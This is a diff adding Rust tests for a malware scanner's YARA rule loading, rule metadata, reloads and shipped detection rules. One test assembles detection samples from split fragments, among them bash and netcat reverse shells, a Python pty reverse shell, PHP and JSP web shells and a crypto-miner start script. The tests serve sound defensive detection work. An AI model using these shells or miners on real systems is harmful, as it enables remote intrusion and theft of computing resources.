@@ -1,0 +1,127 @@
+//! Rule files: what is in force, what is refused and why, and the rules that ship.
+
+use crate::world::{World, config, names, scanner, scanner_with};
+use scan::{ScanConfig, Scanner, Verdict};
+
+#[test]
+fn a_bad_rule_file_is_named_with_its_reason_and_the_others_work() {
+    let world = World::new();
+    world.file("set/good.yar", "rule good { strings: $a = \"needle\" condition: $a }");
+    world.file("set/bad.yar", "rule bad { condition: nonsense }");
+    world.file("set/worse.yara", b"\xff\xfe not text");
+    world.file("set/readme.md", "not a rule");
+    world.file("set/deep/er/also.yar", "rule good { strings: $a = \"needle\" condition: $a }");
+    let yara = vec![world.path("set"), world.path("absent")];
+    let scanner = Scanner::start(ScanConfig { yara, builtin: false, ..config() }).unwrap();
+    let loaded = scanner.loaded();
+    assert_eq!(loaded.rules, 2, "{loaded:?}");
+    let rejected: Vec<_> =
+        loaded.rejected.iter().map(|r| (r.file.file_name().unwrap().to_str().unwrap(), r.reason.as_str())).collect();
+    assert_eq!(rejected.iter().map(|r| r.0).collect::<Vec<_>>(), ["absent", "worse.yara", "bad.yar"]);
+    assert!(rejected[2].1.contains("nonsense"), "{rejected:?}");
+    let report = scanner.scan_path(&world.file("f", "a needle"));
+    assert_eq!(names(&report), ["also:good", "good:good"]);
+}
+
+#[test]
+fn meta_says_severity_action_title_and_technique() {
+    let world = World::new();
+    let rule = r#"rule r : T1496 { meta: severity = "low" action = "deny" title = "A title" description = "why"
+        technique = "T1059.004, T1027" strings: $s = "needle" condition: $s }"#;
+    let scanner = scanner_with(&world, rule, |_| {});
+    let report = scanner.scan_path(&world.file("f", "needle"));
+    assert_eq!(report.verdict, Verdict::Suspicious);
+    let finding = &report.findings[0];
+    assert_eq!((finding.name.as_str(), finding.detail.as_str()), ("A title", "why; matched $s at 0x0"));
+    assert_eq!(finding.asks, Some(event::Action::Deny));
+    let techniques: Vec<_> = finding.techniques.iter().map(|t| t.to_string()).collect();
+    assert_eq!(techniques, ["T1059.004", "T1027", "T1496"]);
+}
+
+#[test]
+fn rules_are_replaced_at_once_and_a_scanner_that_cannot_start_leaves_the_old_ones() {
+    let world = World::new();
+    let scanner = scanner_with(&world, "rule first { condition: true }", |_| {});
+    let file = world.file("f", "x");
+    assert_eq!(names(&scanner.scan_path(&file)), ["test:first"]);
+    let next = world.file("next.yar", "rule second { condition: true }");
+    let mut config = ScanConfig { yara: vec![next], builtin: false, ..config() };
+    scanner.reload(config.clone()).unwrap();
+    assert_eq!(names(&scanner.scan_path(&file)), ["next:second"]);
+    config.worker.program = "/nonexistent/worker".into();
+    scanner.reload(config).unwrap_err();
+    assert_eq!(names(&scanner.scan_path(&file)), ["next:second"]);
+}
+
+#[test]
+fn many_matches_are_bounded_and_counted() {
+    let world = World::new();
+    let rules: String = (0..300).map(|n| format!("rule r{n} {{ condition: true }}\n")).collect();
+    let scanner = scanner_with(&world, &rules, |_| {});
+    let report = scanner.scan_path(&world.file("f", "x"));
+    assert_eq!(report.findings.len(), 64);
+    assert_eq!(report.note.as_deref(), Some("236 more rules matched"));
+}
+
+/// Each shipped rule beside what fires it and what must not. The samples are put together here from parts.
+#[test]
+fn shipped_rules_fire_on_theirs_and_not_on_their_neighbours() {
+    let world = World::new();
+    let scanner = scanner();
+    assert_eq!(scanner.loaded().rejected, []);
+    assert_eq!(scanner.loaded().warnings, Vec::<String>::new());
+    let elf = |parts: &[&str]| [b"\x7fELF\x02\x01\x01".as_slice(), parts.join("\0").as_bytes()].concat();
+    let text = |parts: &[&str]| parts.concat().into_bytes();
+    let check = |content: Vec<u8>, expected: &[&str]| {
+        let report = scanner.scan_path(&world.file("sample", &content));
+        assert_eq!(names(&report), expected, "{}", String::from_utf8_lossy(&content));
+    };
+    check(elf(&["stratum+", "tcp://pool"]), &[]);
+    check(text(&["stratum+tcp://", "mining.submit donate-level randomx"]), &[]);
+    let miner = ["stratum+tcp://%s", "mining.submit", "donate-level", "randomx"];
+    check(elf(&miner), &["miner:linux_coin_miner"]);
+    check(text(&["#!/bin/sh\n./x -o stratum+tcp", "://pool.test:3333 -u w\n"]), &["miner:coin_miner_start_script"]);
+    check(text(&["#!/bin/sh\n# about stratum and pools\n./x -o out -u me\n"]), &[]);
+    check(text(&["ba", "sh -i >& /dev/tcp", "/192.0.2.1/4444 0>&1\n"]), &["reverse_shell:reverse_shell_script"]);
+    check(text(&["exec 3<>/dev/tcp/localhost/80; echo hi >&3\n"]), &[]);
+    check(text(&["nc 192.0.2.1 4444 -e /bin", "/sh\n"]), &["reverse_shell:reverse_shell_script"]);
+    check(text(&["nc -z localhost 80 && /bin/sh run.sh\n"]), &[]);
+    let python = ["import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\n", "os.dup2(s.fileno(),0)\npty.spawn('/bin", "/sh')\n"];
+    check(text(&python), &["reverse_shell:reverse_shell_in_an_interpreter"]);
+    check(text(&["import socket\ns=socket.socket()\ns.connect(('h',1))\n"]), &[]);
+    check(text(&["<?php eval(base64_decode($_POST", "['x']));"]), &["web_shell:php_web_shell"]);
+    check(text(&["<?php echo htmlspecialchars($_POST['x']); exec('ls');"]), &[]);
+    check(text(&["<% Runtime.getRuntime().exec(request", ".getParameter(\"c\")); %>"]), &["web_shell:jsp_web_shell"]);
+    check(text(&["<% out.print(request.getParameter(\"c\")); %>"]), &[]);
+    let packed = ["UPX!", "$Info: This file is packed with the UPX", " executable packer http://"];
+    check(elf(&[packed[0], &packed[1..].concat()]), &["packed:elf_packed_with_upx"]);
+    check(one_segment_elf(7), &["packed:elf_without_sections_that_maps_itself"]);
+    check(one_segment_elf(5), &[]);
+}
+
+/// The smallest whole ELF: a header, one loaded segment, 4 KiB of nothing.
+fn one_segment_elf(flags: u32) -> Vec<u8> {
+    let mut elf = vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0];
+    elf.extend(2u16.to_le_bytes());
+    elf.extend(62u16.to_le_bytes());
+    elf.extend(1u32.to_le_bytes());
+    elf.extend([0x40_0078u64, 64, 0].map(u64::to_le_bytes).concat());
+    elf.extend(0u32.to_le_bytes());
+    elf.extend([64u16, 56, 1, 0, 0, 0].map(u16::to_le_bytes).concat());
+    elf.extend([1u32, flags].map(u32::to_le_bytes).concat());
+    elf.extend([0u64, 0x40_0000, 0x40_0000, 4096, 4096, 4096].map(u64::to_le_bytes).concat());
+    elf.resize(4096, 0);
+    elf
+}
+
+#[test]
+fn programs_of_the_distribution_are_not_detected() {
+    let scanner = scanner();
+    let mut programs: Vec<_> = std::fs::read_dir("/usr/bin").unwrap().map(|e| e.unwrap().path()).collect();
+    programs.retain(|path| path.symlink_metadata().is_ok_and(|m| m.is_file() && m.len() < 100_000));
+    programs.sort();
+    for path in programs.iter().step_by(4).take(60) {
+        let report = scanner.scan_path(path);
+        assert_eq!(report.verdict, Verdict::Clean, "{report:?}");
+    }
+}
